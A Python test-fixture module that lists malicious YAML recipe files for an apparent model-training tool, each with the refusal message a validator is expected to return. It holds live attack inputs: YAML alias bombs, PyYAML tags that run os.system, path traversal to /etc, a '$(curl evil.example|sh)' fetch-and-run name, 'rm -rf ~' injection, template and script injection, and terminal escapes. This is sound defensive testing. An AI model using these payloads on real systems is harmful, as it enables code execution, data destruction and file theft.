"""Recipes of people who mean harm, by what they try: bytes, and words of the refusal.

Each is a whole file but for the first lines of `GOOD`, which some change. None of them may be read.
"""

from __future__ import annotations

from written import SANDBOX_RECIPE as GOOD


def _with(old: str, new: str) -> bytes:
    assert old in GOOD
    return GOOD.replace(old, new, 1).encode("utf-8", "surrogatepass")


def _published(words: str) -> bytes:
    return f"{GOOD}publish: {{push: [own], {words}}}\n".encode()


def _served(url: str) -> bytes:
    return f"{GOOD}regenerate: {{engine: openai, server: {{url: '{url}', model: x}}}}\n".encode()


_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join(f'*{a}' for _ in range(9))}]\n"
    for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
NAME, BASE, DROP, ID = "name: small", "model: sandbox/base", "drop: 2", "id: sandbox/math"
FILES: dict[str, tuple[bytes, str]] = {
    # YAML that grows, nests, refers to itself or builds objects
    "billion laughs": (_LAUGHS.encode() + GOOD.encode(), "too many values"),
    "an alias of itself": (_with(DROP, "drop: &a [*a]"), "nested too deep"),
    "a mapping merged into itself": (_with("{max_steps: 3,", "{<<: *s, max_steps: 3,"), "broken YAML"),
    "a merge key": (_with("sft: {", "sft: {<<: {max_steps: 9}, "), "'<<'"),
    "nested sequences": (_with(DROP, "drop: " + "[" * 4000 + "]" * 4000), "nested too deep"),
    "nested mappings": (_with(DROP, "drop: " + "{a: " * 3000 + "}" * 3000), "nested too deep"),
    "nested blocks": (GOOD.encode() + b"".join(b"%sk:\n" % (b" " * i) for i in range(300)), "too deep"),
    "a python object": (_with(NAME, "name: !!python/object/apply:os.system [id]"), "the YAML tag"),
    "a python name": (_with(NAME, "name: !!python/name:os.system"), "the YAML tag"),
    "a python tuple for a list": (_with("of: [own, other]", "of: !!python/tuple [own]"), "the YAML tag"),
    "binary": (_with(NAME, "name: !!binary c21hbGw="), "the YAML tag"),
    "a set": (_with(DROP, "drop: !!set {4, 7}"), "the YAML tag"),
    "a tag with a directive": (b"%TAG ! tag:yaml.org,2002:python/\n---\n" + _with(NAME, "name: !name:id"),
                               "the YAML tag"),
    "a tag on a mapping": (_with("base: {", "base: !!python/object:factory.recipe.Recipe {"), "the YAML tag"),
    "two documents": (GOOD.encode() + b"---\n" + GOOD.encode(), "a second YAML document"),
    "another version of YAML": (b"%YAML 9.9\n---\n" + GOOD.encode(), "broken YAML"),
    # keys
    "a list for a key": (_with(DROP, "[a, b]: 2"), "a key must be a plain word"),
    "a mapping for a key": (_with(DROP, "{a: b}: 2"), "a key must be a plain word"),
    "an explicit key": (_with(DROP, "? |\n    a\n  : 2\n  drop: 2"), "unknown key"),
    "no key": (_with(DROP, ": 2\n  drop: 2"), "unknown key"),
    "a key twice": (_with(DROP, "drop: 2\n  drop: 3"), "is there twice"),
    "a key twice, once in quotes": (_with(DROP, 'drop: 2\n  "drop": 3'), "is there twice"),
    "a key twice by an escape": (_with(DROP, 'drop: 2\n  "\\x64rop": 3'), "is there twice"),
    "a key of python's": (_with(DROP, "drop: 2\n  __class__: x"), "unknown key '__class__'"),
    "a key with braces": (_with(DROP, 'drop: 2\n  "{mend}": x'), "unknown key '{mend}'"),
    # numbers
    "a number of 5,000 digits": (_with(DROP, "drop: " + "9" * 5000), "not a number"),
    "a number of 400 digits": (_with("rows: 8", "rows: " + "9" * 400), "rows"),
    "more rows than numbers": (_with(ID, f"rows: {2**64}, id: sandbox/math"), "rows"),
    "a share next to nothing": (_with("data: [chat]", "rows: 9, data: {chat: 1.0e-320}"), "than anybody"),
    "a mix of more rows than numbers": (_with("data: [chat]", f"data: {{chat: {10**400}}}"), "than anybody"),
    "a drop as large as it gets": (_with(DROP, 'drop: "0:99999999999"'), "prune.drop"),
    "ranges without end": (_with(DROP, 'drop: "' + ",".join(f"{i}:{i + 999999}" for i in range(9)) + '"'),
                           "prune.drop"),
    "a sexagesimal": (_with("max_steps: 3", "max_steps: 99:59:59"), "'max_steps'"),
    "infinity": (_with("learning_rate: 1e-3", "learning_rate: .inf"), "not finite"),
    "infinity by its size": (_with("learning_rate: 1e-3", "learning_rate: 1.0e+999"), "not finite"),
    "no number": (_with("t: 0.5", "t: .nan"), "not finite"),
    "measurements without end": (GOOD.encode() + b"measure: {rounds: 1000000000}\n", "at most 100,"),
    "prompts of drift without end": (GOOD.encode() + b"drift: {rows: 1000000}\n", "at most 2,000,"),
    "trials without end": (GOOD.encode() + b"draft: {prompts: {x: {of: math}}, rounds: 99}\n", "at most 20,"),
    "a sweep of millions": (GOOD.encode() + b"sweep: {seed: [%s], prune.drop: [%s]}\n"
                            % (b", ".join(b"%d" % i for i in range(900)),
                               b", ".join(b"%d" % i for i in range(1, 900))), "points, more than"),
    # names, which become folders, repositories, lines of a terminal and of a page
    "a path for a name": (_with(NAME, "name: ../../etc/cron.d/x"), "does not do as a name"),
    "an absolute path for a name": (_with(NAME, "name: /etc/passwd"), "does not do as a name"),
    "a hidden folder": (_with(NAME, "name: .ssh"), "does not do as a name"),
    "the folder above": (_with(NAME, "name: .."), "does not do as a name"),
    "the store": (_with(NAME, "name: STORE"), "cannot be called"),
    "a command in a name": (_with(NAME, 'name: "$(curl evil.example|sh)"'), "does not do as a name"),
    "backticks in a name": (_with(NAME, 'name: "`id`"'), "does not do as a name"),
    "an option for a name": (_with(NAME, "name: --runs-dir=/"), "does not do as a name"),
    "a workflow's expression": (_with(NAME, 'name: "${{ secrets.HF_TOKEN }}"'), "does not do as a name"),
    "a page's expression": (_with(NAME, 'name: "{{ 7 * 7 }}"'), "does not do as a name"),
    "a page's expression in a variant": (_with("  own: {", '  "{{ config.items() }}": {'), "as a name"),
    "markup in a variant": (_with("  own: {", '  "<script>alert(1)</script>": {'), "does not do as a name"),
    "a line break in a name": (_with(NAME, 'name: "small\\nHF_TOKEN=x"'), "does not do as a name"),
    "a line break at the end of a name": (_with(NAME, 'name: "small\\n"'), "does not do as a name"),
    "a NUL in a name": (_with(NAME, 'name: "small\\0.yaml"'), "does not do as a name"),
    "an escape sequence in a name": (_with(NAME, 'name: "\\e]0;pwned\\a\\e[2Jsmall"'), "not do as a name"),
    "a name written backwards": (_with(NAME, 'name: "small\\u202e"'), "does not do as a name"),
    "a name that looks like another": (_with(NAME, "name: \u0455mall"), "does not do as a name"),
    "a name of full width": (_with(NAME, "name: \uff53mall"), "does not do as a name"),
    "half a character": (_with(NAME, 'name: "\\ud800"'), "name"),
    "a name too long": (_with(NAME, "name: " + "x" * 300), "does not do as a name"),
    "a dataset of a path": (_with("  math: {", "  ../math: {"), "does not do as a name"),
    "a namespace of a path": (_published("namespace: ../.."), "does not do as a name"),
    "a namespace with a command": (_published('namespace: "a;id"'), "does not do as a name"),
    "a licence with a line break": (_published('license: "mit\\nx: 1"'), "does not do as a licence"),
    "an escape sequence in a key": (_with(DROP, 'drop: 2\n  "\\e[31mred": 3'), "unknown key '\\x1b[31mred'"),
    "an escape sequence in a value": (_with("targets: original", 'targets: "\\e[2J"'), "targets"),
    # the file
    "NUL bytes": (GOOD.encode() + b"\x00", "broken YAML"),
    "nothing but NUL": (b"\x00" * 100, "YAML"),
    "not UTF-8": (GOOD.encode() + b"# \xc3\x28\n", "not UTF-8"),
    "Latin-1": (_with(NAME, "name: small # é").decode().encode("latin-1"), "not UTF-8"),
    "UTF-16": (GOOD.encode("utf-16"), "not UTF-8"),
    "UTF-16 without a mark": (GOOD.encode("utf-16-le"), "YAML"),
    "UTF-32": (GOOD.encode("utf-32"), "not UTF-8"),
    "UTF-7": (_with(NAME, "name: +AGE-"), "does not do as a name"),
    "a raw escape sequence": (_with(NAME, "name: \x1b[2Jsmall"), "broken YAML"),
    "too large": (GOOD.encode() + b"#" * 70_000, "too large"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "not UTF-8"),
    "empty": (b"", "a mapping"),
    "a pickle": (b"\x80\x04\x95\x17\x00\x00\x00.", "not UTF-8"),
    # library fields that run code, write elsewhere or send something away
    "code of the model": (_with("max_steps: 3", "trust_remote_code: true"), "'trust_remote_code'"),
    "a folder to write into": (_with("max_steps: 3", "output_dir: /etc"), "'output_dir'"),
    "a folder for logs": (_with("max_steps: 3", "logging_dir: /etc"), "logging_dir"),
    "a module to import": (_with("{r: 4}", "{r: 4, megatron_core: antigravity}"), "'megatron_core'"),
    "a reporter that is a mapping": (_with("max_steps: 3", "report_to: {a: 1}"), "'report_to'"),
    "reporters that are lists": (_with("max_steps: 3", "report_to: [[a]]"), "'report_to'"),
    "a token": (_with("max_steps: 3", "hub_token: hf_x"), "'hub_token'"),
    "a push to the Hub": (_with("max_steps: 3", "push_to_hub: true"), "'push_to_hub'"),
    "a server that is a file": (_served("file:///etc/passwd"), "no address"),
    "a server with a password": (_served("http://a:b@c/"), "more than an address"),
    "a regex without end": (_with("final_number", '"regex:(a"'), "regex"),
}  # fmt: skip

# Of recipes that can be read: a reference, what stands for it, and words of the refusal of what it names.
REFERENCES: dict[str, tuple[str, str, str]] = {
    "a command in a model's id": (BASE, 'model: "org/x; rm -rf ~"', "there is no model folder"),
    "a substitution in a model's id": (BASE, 'model: "$(id)/x"', "there is no model folder"),
    "an expression in a model's id": (BASE, 'model: "${{ github.token }}"', "there is no model folder"),
    "an option for a model's id": (BASE, 'model: "--help"', "there is no model folder"),
    "a URL for a model's id": (BASE, 'model: "https://evil.example/x"', "there is no model folder"),
    "a NUL in a model's id": (BASE, 'model: "org/x\\0y"', "org/x\\x00y"),
    "a line break in a model's id": (BASE, 'model: "org/x\\nHF_TOKEN=y"', "model"),
    "an escape sequence in a model's id": (BASE, 'model: "org/\\e[2Jx"', "model"),
    "a model's id too long": (BASE, "model: " + "x" * 5000, "xxx'"),
    "a folder above": (BASE, "model: ../../../../../../../../etc", ""),
    "an absolute folder": (BASE, "model: /etc", ""),
    "a home": (BASE, "model: ~root", ""),
    "a sandbox model that leads out": (BASE, "model: sandbox/../../..", "there is no model"),
    "a dataset above": (ID, "id: ../../../../../../../../etc", ""),
    "a dataset of devices": (ID, "id: /dev", ""),
    "a sandbox dataset that leads out": (ID, "id: sandbox/../math", "there is no dataset"),
    "a dataset's config of a path": (ID, "id: sandbox/math, config: ../../etc", "config"),
    "a dataset's split of a path": (ID, "id: sandbox/math, split: ../../passwd", "split"),
    "a dataset's split of a pattern": (ID, 'id: sandbox/math, split: "*"', "split"),
    "a dataset's id with a command": (ID, 'id: "a/b`id`"', "there is no dataset folder"),
    "a calibration set elsewhere": ("dataset: sandbox/corpus", "dataset: /proc/self", ""),
    "a merge with a folder elsewhere": ("of: [own, other]", "of: [own, /etc]", ""),
    "a benchmark elsewhere": ("{suite: sandbox_v1}", "{suite: sandbox_v1, datasets: {arc: /etc}}", ""),
}
